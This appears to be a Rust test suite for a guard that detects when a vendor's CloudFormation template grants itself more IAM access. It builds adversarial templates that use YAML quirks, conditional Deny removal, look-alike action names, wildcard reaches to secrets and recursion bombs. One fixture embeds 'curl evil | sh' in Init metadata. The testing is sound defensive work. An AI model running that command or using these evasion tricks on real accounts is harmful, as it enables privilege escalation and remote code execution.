//! The adversarial review's classes, one group of tests per class: a vendor who controls the template URL writes
//! a version that grants more, and the guard must say "widening" (or refuse it), never "apply". Each test failed
//! on the guard before default-deny (the class it covers is in its group's heading).

use serde_json::{Value, json};

use super::*;
use crate::desired::PolicyLevel;
use crate::template::parse_document;

fn yaml(text: &str) -> Value {
    parse_document(text).unwrap_or_else(|e| panic!("{e}\n{text}"))
}

fn judged(old: &Value, new: &Value, p: &Parameters) -> Judgment {
    judge(old, new, p).expect("within budget")
}

/// Widening, with a widening finding containing `needle`.
fn widens(old: &Value, new: &Value, needle: &str) {
    let j = judged(old, new, &Parameters::new());
    assert!(j.widening, "expected widening:\n{}", j.lines().join("\n"));
    assert!(
        j.widening_lines().iter().any(|l| l.contains(needle)),
        "no widening finding with {needle:?}:\n{}",
        j.lines().join("\n")
    );
}

/// A role trusted by the vendor with an ExternalId, granting `statements`, plus `extra` resources.
fn base(statements: Value, extra: Value) -> Value {
    let mut doc = json!({
        "Resources": {"VendorRole": {"Type": "AWS::IAM::Role", "Properties": {
            "RoleName": "VendorRole",
            "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": [{
                "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::111122223333:root"},
                "Action": "sts:AssumeRole",
                "Condition": {"StringEquals": {"sts:ExternalId": {"Ref": "ExternalId"}}}}]},
            "Policies": [{"PolicyName": "read", "PolicyDocument": {"Version": "2012-10-17", "Statement": statements}}]
        }}},
        "Parameters": {"ExternalId": {"Type": "String"}}
    });
    if let Value::Object(extra) = extra {
        for (k, v) in extra {
            doc["Resources"][k] = v;
        }
    }
    doc
}

fn read_only() -> Value {
    json!([{"Effect": "Allow", "Action": ["ce:Get*"], "Resource": "*"}])
}

fn admin() -> Value {
    json!({"Effect": "Allow", "Action": "*", "Resource": "*"})
}

// ---- 1. parsing differs from CloudFormation's (YAML 1.1 scalars) ----

#[test]
fn a_yaml_1_1_boolean_that_switches_on_a_grant_is_read_as_cloudformation_reads_it() {
    let template = |default: &str| {
        yaml(&format!(
            r#"
Parameters:
  Full: {{Type: String, Default: {default}}}
Conditions:
  Grant: !Equals [!Ref Full, "true"]
Resources:
  VendorRole:
    Type: AWS::IAM::Role
    Properties:
      AssumeRolePolicyDocument:
        Statement: [{{Effect: Allow, Principal: {{AWS: "arn:aws:iam::111122223333:root"}}, Action: "sts:AssumeRole"}}]
      Policies:
        - PolicyName: p
          PolicyDocument:
            Statement:
              - {{Effect: Allow, Action: "ce:Get*", Resource: "*"}}
              - !If [Grant, {{Effect: Allow, Action: "*", Resource: "*"}}, !Ref AWS::NoValue]
"#
        ))
    };
    // `yes` unquoted is true in YAML 1.1: the condition holds, and the role gets `*`.
    widens(&template("\"false\""), &template("yes"), "+ *");
    // Quoted, it is the text "yes": nothing changes.
    let j = judged(
        &template("\"false\""),
        &template("'yes'"),
        &Parameters::new(),
    );
    assert!(!j.widening, "{}", j.lines().join("\n"));
}

#[test]
fn a_scalar_whose_yaml_1_1_value_is_not_its_text_is_refused_with_the_line() {
    let err = parse_document("Resources:\n  R:\n    Type: AWS::IAM::Role\n    Properties:\n      MaxSessionDuration: 0700\n")
        .unwrap_err();
    assert!(err.contains("line 5") && err.contains("quote it"), "{err}");
}

// ---- 2. parts of the template the guard never read ----

#[test]
fn resource_attributes_are_judged() {
    let old = base(read_only(), json!({}));
    for (attribute, value, needle) in [
        (
            "DeletionPolicy",
            json!("Retain"),
            "Resources.VendorRole.DeletionPolicy added: Retain",
        ),
        (
            "UpdateReplacePolicy",
            json!("Retain"),
            "Resources.VendorRole.UpdateReplacePolicy",
        ),
        (
            "Metadata",
            json!({"AWS::CloudFormation::Init": {"config": {"commands": {"x": {"command": "curl evil | sh"}}}}}),
            "Resources.VendorRole.Metadata.AWS::CloudFormation::Init added",
        ),
        (
            "CreationPolicy",
            json!({"ResourceSignal": {"Count": 1}}),
            "Resources.VendorRole.CreationPolicy added",
        ),
        (
            "UpdatePolicy",
            json!({"AutoScalingReplacingUpdate": {"WillReplace": true}}),
            "Resources.VendorRole.UpdatePolicy added",
        ),
        (
            "DependsOn",
            json!(["Other"]),
            "Resources.VendorRole.DependsOn added",
        ),
        (
            "SomethingNew",
            json!(1),
            "Resources.VendorRole.SomethingNew added",
        ),
    ] {
        let mut new = old.clone();
        new["Resources"]["VendorRole"][attribute] = value;
        widens(&old, &new, needle);
    }
    // Back to Delete, a removed Metadata key and tool-only Metadata are harmless.
    let mut retained = old.clone();
    retained["Resources"]["VendorRole"]["DeletionPolicy"] = json!("Retain");
    retained["Resources"]["VendorRole"]["Metadata"] = json!({"cfn_nag": {"rules_to_suppress": []}});
    let j = judged(&retained, &old, &Parameters::new());
    assert!(!j.widening, "{}", j.lines().join("\n"));
}

#[test]
fn tags_and_paths_of_iam_principals_are_judged() {
    let old = base(read_only(), json!({}));
    let mut new = old.clone();
    new["Resources"]["VendorRole"]["Properties"]["Tags"] =
        json!([{"Key": "security-exempt", "Value": "true"}]);
    widens(&old, &new, "tag security-exempt added");
    let mut moved = old.clone();
    moved["Resources"]["VendorRole"]["Properties"]["Path"] = json!("/exempt/");
    widens(&old, &moved, "Resources.VendorRole.Properties.Path added");
    // Reordered tags are the same tags.
    let mut two = old.clone();
    two["Resources"]["VendorRole"]["Properties"]["Tags"] =
        json!([{"Key": "a", "Value": "1"}, {"Key": "b", "Value": "2"}]);
    let mut swapped = old.clone();
    swapped["Resources"]["VendorRole"]["Properties"]["Tags"] =
        json!([{"Key": "b", "Value": "2"}, {"Key": "a", "Value": "1"}]);
    let j = judged(&two, &swapped, &Parameters::new());
    assert!(!j.widening, "{}", j.lines().join("\n"));
}

#[test]
fn a_change_inside_a_language_extensions_loop_is_judged() {
    let template = |action: &str| {
        let mut doc = base(read_only(), json!({}));
        doc["Transform"] = json!("AWS::LanguageExtensions");
        doc["Resources"]["Fn::ForEach::Roles"] = json!(["Name", ["A", "B"], {"Role${Name}": {
            "Type": "AWS::IAM::Role", "Properties": {"AssumeRolePolicyDocument": {"Statement": []},
            "Policies": [{"PolicyName": "p", "PolicyDocument": {"Statement": [{"Effect": "Allow", "Action": action, "Resource": "*"}]}}]}}}]);
        doc
    };
    widens(&template("ce:Get*"), &template("*"), "Fn::ForEach::Roles");
}

#[test]
fn a_statement_key_the_grammar_does_not_have_is_not_read_as_nothing() {
    let old = base(read_only(), json!({}));
    let new = base(
        json!([{"Effect": "Allow", "action": "*", "Resource": "*"}]),
        json!({}),
    );
    widens(&old, &new, "could be anything");
}

// ---- 3. approximations that favoured the new version ----

/// A template with a Deny in its own managed policy, attached to the role.
fn with_deny(attach: Value, roles: Value) -> Value {
    let mut doc = base(
        json!([admin()]),
        json!({
            "Guardrail": {"Type": "AWS::IAM::ManagedPolicy", "Properties": {
                "Roles": roles,
                "PolicyDocument": {"Statement": [{"Effect": "Deny", "Action": "iam:*", "Resource": "*"}]}}}
        }),
    );
    if !attach.is_null() {
        doc["Resources"]["VendorRole"]["Properties"]["ManagedPolicyArns"] = attach;
    }
    doc["Conditions"] =
        json!({"Opaque": {"Fn::Equals": [{"Fn::GetAtt": ["Other", "Value"]}, "x"]}});
    doc["Resources"]["Other"] = json!({"Type": "AWS::CloudFormation::WaitConditionHandle"});
    doc
}

#[test]
fn a_deny_kept_word_for_word_but_made_conditional_is_not_kept() {
    let old = with_deny(Value::Null, json!([{"Ref": "VendorRole"}]));
    // Detached through Roles under an Fn::If the guard cannot evaluate.
    let new = with_deny(
        Value::Null,
        json!({"Fn::If": ["Opaque", [{"Ref": "VendorRole"}], {"Ref": "AWS::NoValue"}]}),
    );
    widens(&old, &new, "Deny of iam:*");
    // The whole Deny statement under Fn::If.
    let mut conditional = old.clone();
    conditional["Resources"]["Guardrail"]["Properties"]["PolicyDocument"]["Statement"] = json!([{"Fn::If": ["Opaque",
        {"Effect": "Deny", "Action": "iam:*", "Resource": "*"}, {"Ref": "AWS::NoValue"}]}]);
    widens(&old, &conditional, "Deny of iam:*");
    // Attached through ManagedPolicyArns, then only under an Fn::If.
    let attached = with_deny(json!([{"Ref": "Guardrail"}]), json!([]));
    let detached = with_deny(
        json!({"Fn::If": ["Opaque", [{"Ref": "Guardrail"}], {"Ref": "AWS::NoValue"}]}),
        json!([]),
    );
    widens(&attached, &detached, "Deny of iam:*");
    // Unchanged, the same conditional Deny is kept.
    let j = judged(&conditional, &conditional, &Parameters::new());
    assert!(!j.widening, "{}", j.lines().join("\n"));
}

#[test]
fn past_the_case_limit_a_formerly_conditional_grant_is_not_already_granted() {
    // Seven parameters with two allowed values each: 3^7 cases, past the enumeration limit.
    let mut params = serde_json::Map::new();
    let mut equals = Vec::new();
    for i in 0..7 {
        params.insert(
            format!("P{i}"),
            json!({"Type": "String", "AllowedValues": ["a", "b"]}),
        );
        equals.push(json!({"Fn::Equals": [{"Ref": format!("P{i}")}, "a"]}));
    }
    let template = |statement: Value| {
        let mut doc = base(json!([statement]), json!({}));
        doc["Parameters"] = Value::Object(params.clone());
        doc["Parameters"]["ExternalId"] = json!({"Type": "String"});
        doc["Conditions"] = json!({"All": {"Fn::And": equals.clone()}});
        doc
    };
    let old = template(json!({"Fn::If": ["All", admin(), {"Ref": "AWS::NoValue"}]}));
    let new = template(admin());
    let j = judged(&old, &new, &Parameters::new());
    assert!(j.widening, "{}", j.lines().join("\n"));
}

#[test]
fn one_opaque_policy_replaced_by_another_is_widening() {
    // Policies written as JSON strings (as AWS::Logs::ResourcePolicy requires) are read, not opaque.
    let policy = |action: &str| {
        json!({"Resources": {"LogsPolicy": {"Type": "AWS::Logs::ResourcePolicy", "Properties": {
            "PolicyName": "vendor",
            "PolicyDocument": format!(r#"{{"Statement": [{{"Effect": "Allow", "Principal": {{"AWS": "arn:aws:iam::111122223333:root"}}, "Action": "{action}", "Resource": "*"}}]}}"#)
        }}}})
    };
    widens(&policy("logs:GetLogEvents"), &policy("*"), "+ *");
    // Two different macro invocations are two different unknown values.
    let macro_policy = |kind: &str| {
        let mut doc = base(read_only(), json!({}));
        doc["Resources"]["VendorRole"]["Properties"]["Policies"] =
            json!([{"Fn::Transform": {"Name": "VendorPolicy", "Parameters": {"Kind": kind}}}]);
        doc
    };
    widens(
        &macro_policy("ReadOnly"),
        &macro_policy("Admin"),
        "could be anything",
    );
    // The very same invocation is the same value.
    let j = judged(
        &macro_policy("ReadOnly"),
        &macro_policy("ReadOnly"),
        &Parameters::new(),
    );
    assert!(!j.widening, "{}", j.lines().join("\n"));
}

// ---- 4. resource types classed inert that hold policies ----

#[test]
fn a_log_group_with_a_resource_policy_is_not_inert() {
    let old = base(
        read_only(),
        json!({"Logs": {"Type": "AWS::Logs::LogGroup", "Properties": {}}}),
    );
    let new = base(
        read_only(),
        json!({"Logs": {"Type": "AWS::Logs::LogGroup", "Properties": {
        "ResourcePolicyDocument": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "logs:*", "Resource": "*"}]}}}}),
    );
    widens(&old, &new, "resource Logs (AWS::Logs::LogGroup) changed");
}

// ---- 5. unbounded recursion reachable from a template ----

#[test]
fn a_long_chain_of_conditions_is_too_complex_never_a_crash() {
    let mut conditions = serde_json::Map::new();
    for i in 0..20_000 {
        conditions.insert(format!("C{i}"), json!({"Condition": format!("C{}", i + 1)}));
    }
    conditions.insert("C20000".into(), json!({"Fn::Equals": ["a", "a"]}));
    let mut doc = base(
        json!([{"Fn::If": ["C0", admin(), {"Ref": "AWS::NoValue"}]}]),
        json!({}),
    );
    doc["Conditions"] = Value::Object(conditions);
    // Run on a stack half the size of a tokio worker's (2 MiB), in a debug build.
    let old = base(read_only(), json!({}));
    let result = std::thread::Builder::new()
        .stack_size(1024 * 1024)
        .spawn(move || judge(&old, &doc, &Parameters::new()).map(|j| j.widening))
        .expect("thread")
        .join()
        .expect("no stack overflow");
    assert_eq!(result, Err(TooComplex));
}

#[test]
fn deep_nesting_is_refused_by_the_reader() {
    let deep = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
    assert!(parse_document(&deep).is_err());
    let deep_map = format!("{}1{}", "{\"a\":".repeat(50_000), "}".repeat(50_000));
    assert!(parse_document(&deep_map).is_err());
}

// ---- 6. DataOnly refused a secret-bearing read only when named exactly ----

#[test]
fn a_pattern_written_to_reach_a_secret_bearing_read_is_refused() {
    for pattern in [
        "secretsmanager:GetSecretValu?",
        "s3:GetObjec?",
        "secretsmanager:GetSecret*",
        "s3:GetObjec*",
        "ssm:GetParamete?",
    ] {
        let doc = base(
            json!([{"Effect": "Allow", "Action": pattern, "Resource": "*"}]),
            json!({}),
        );
        let check =
            check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
        assert!(
            check.offenses.iter().any(|o| o.action == pattern),
            "{pattern} not refused: {:?}",
            check
        );
    }
    // The broad service-wide reads real vendors write stay a warning.
    let doc = base(
        json!([{"Effect": "Allow", "Action": "ec2:Describe*", "Resource": "*"}]),
        json!({}),
    );
    let check =
        check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
    assert!(check.offenses.is_empty(), "{check:?}");
    assert!(
        check.warnings.iter().any(|w| w.contains("ec2:Describe*")),
        "{check:?}"
    );
}

// ---- 7. parameter values leaked through findings ----

#[test]
fn findings_name_a_parameter_never_its_value() {
    let old = base(read_only(), json!({}));
    let mut new = old.clone();
    new["Resources"]["VendorRole"]["Properties"]["AssumeRolePolicyDocument"]["Statement"][0]["Condition"] =
        json!({"StringEquals": {"sts:ExternalId": {"Fn::Sub": "${ExternalId}-or-anything"}}});
    let secret = "Zq7-customer-secret-42";
    let p: Parameters = [("ExternalId".to_string(), secret.to_string())].into();
    let j = judged(&old, &new, &p);
    assert!(j.widening);
    let text = j.lines().join("\n");
    assert!(!text.contains(secret), "{text}");
    assert!(text.contains("ExternalId"), "{text}");
    let check = check_level(PolicyLevel::DataOnly, &new, &p).expect("within budget");
    assert!(!format!("{check:?}").contains(secret));
}

// ---- beyond the review's list ----

#[test]
fn a_policy_version_that_turns_text_into_a_policy_variable_is_widening() {
    let template = |version: Option<&str>, actions: Value| {
        let mut doc = base(
            json!([{"Effect": "Allow", "Action": actions, "Resource": "arn:aws:s3:::vendor/${aws:username}/*"}]),
            json!({}),
        );
        let document =
            &mut doc["Resources"]["VendorRole"]["Properties"]["Policies"][0]["PolicyDocument"];
        match version {
            Some(v) => document["Version"] = json!(v),
            None => {
                document.as_object_mut().map(|d| d.remove("Version"));
            }
        }
        doc
    };
    // Under the default 2008-10-17, `${aws:username}` is text; under 2012-10-17, every user's own prefix.
    widens(
        &template(None, json!("s3:GetObject")),
        &template(Some("2012-10-17"), json!("s3:GetObject")),
        "s3:GetObject",
    );
    // With the variable in force in both, a narrowing is a narrowing.
    let j = judged(
        &template(Some("2012-10-17"), json!(["s3:GetObject", "s3:PutObject"])),
        &template(Some("2012-10-17"), json!("s3:GetObject")),
        &Parameters::new(),
    );
    assert!(!j.widening, "{}", j.lines().join("\n"));
}

#[test]
fn an_inline_policy_entry_with_an_unknown_key_could_grant_anything() {
    let old = base(read_only(), json!({}));
    let mut new = old.clone();
    new["Resources"]["VendorRole"]["Properties"]["Policies"][0]["PolicyDocumentOverride"] =
        json!({"Statement": [admin()]});
    widens(&old, &new, "could be anything");
}

#[test]
fn every_widening_finding_names_where_it_is() {
    let old = base(read_only(), json!({}));
    let mut new = base(
        json!([admin()]),
        json!({"Hook": {"Type": "Custom::Hook", "Properties": {"ServiceToken": "x"}}}),
    );
    new["Resources"]["VendorRole"]["DeletionPolicy"] = json!("Retain");
    new["Resources"]["VendorRole"]["Properties"]["Tags"] = json!([{"Key": "k", "Value": "v"}]);
    let j = judged(&old, &new, &Parameters::new());
    assert!(j.widening);
    for f in j.findings.iter().filter(|f| f.widening) {
        assert!(f.path.starts_with("Resources."), "no path: {}", f.line());
    }
}

#[test]
fn a_role_whose_whole_properties_become_a_choice_is_judged_whole() {
    let old = base(read_only(), json!({}));
    let mut new = old.clone();
    let props = new["Resources"]["VendorRole"]["Properties"].take();
    let mut admin_props = props.clone();
    admin_props["Policies"][0]["PolicyDocument"]["Statement"] = json!([admin()]);
    new["Conditions"] =
        json!({"Opaque": {"Fn::Equals": [{"Fn::GetAtt": ["Other", "Value"]}, "x"]}});
    new["Resources"]["Other"] = json!({"Type": "AWS::CloudFormation::WaitConditionHandle"});
    new["Resources"]["VendorRole"]["Properties"] =
        json!({"Fn::If": ["Opaque", admin_props, props]});
    widens(&old, &new, "Resources.VendorRole.Properties.Properties");
}

#[test]
fn a_tag_directive_cannot_smuggle_a_tag_past_the_reader() {
    // `%TAG !! ...` makes `!!Ref` a foreign tag: refused, not read as text or as an intrinsic.
    let err = parse_document("%TAG !! tag:example.com,2026:\n---\nA: !!Ref x\n").unwrap_err();
    assert!(err.contains("the YAML tag"), "{err}");
    // Redefining `!` to the core schema makes `!str` the core string tag: text, as every YAML 1.1 reader has it.
    let doc = parse_document("%TAG ! tag:yaml.org,2002:\n---\nA: !str yes\n").expect("reads");
    assert_eq!(doc["A"], json!("yes"));
}

#[test]
fn an_action_spelled_with_a_look_alike_letter_is_new_and_unknown() {
    let old = base(
        json!([{"Effect": "Allow", "Action": "iam:PassRole", "Resource": "*"}]),
        json!({}),
    );
    // A Cyrillic "о" in PassRole: not the same action, and not one the catalog knows.
    let new = base(
        json!([{"Effect": "Allow", "Action": "iam:PassRоle", "Resource": "*"}]),
        json!({}),
    );
    widens(&old, &new, "not in the action catalog");
}

#[test]
fn a_policy_level_refuses_a_resource_that_outlives_its_revocation() {
    let mut doc = base(read_only(), json!({}));
    doc["Resources"]["VendorRole"]["DeletionPolicy"] = json!("Retain");
    let check =
        check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
    assert!(
        check
            .offenses
            .iter()
            .any(|o| o.location == "Resources.VendorRole.DeletionPolicy"),
        "{check:?}"
    );
    doc["Resources"]["VendorRole"]["DeletionPolicy"] = json!("Delete");
    let check =
        check_level(PolicyLevel::DataOnly, &doc, &Parameters::new()).expect("within budget");
    assert!(check.offenses.is_empty(), "{check:?}");
}

#[test]
fn an_export_other_stacks_import_is_judged() {
    let export = |value: Value| {
        let mut doc = base(read_only(), json!({}));
        doc["Outputs"] = json!({"RoleArn": {"Value": value, "Export": {"Name": "vendor-role"}},
            "Shown": {"Value": "anything"}});
        doc
    };
    let old = export(json!({"Fn::GetAtt": ["VendorRole", "Arn"]}));
    widens(
        &old,
        &export(json!("arn:aws:iam::999988887777:role/admin")),
        "Outputs.RoleArn.Export changed",
    );
    // An output nobody imports is only shown.
    let mut shown = old.clone();
    shown["Outputs"]["Shown"]["Value"] = json!("something else");
    let j = judged(&old, &shown, &Parameters::new());
    assert!(!j.widening, "{}", j.lines().join("\n"));
}
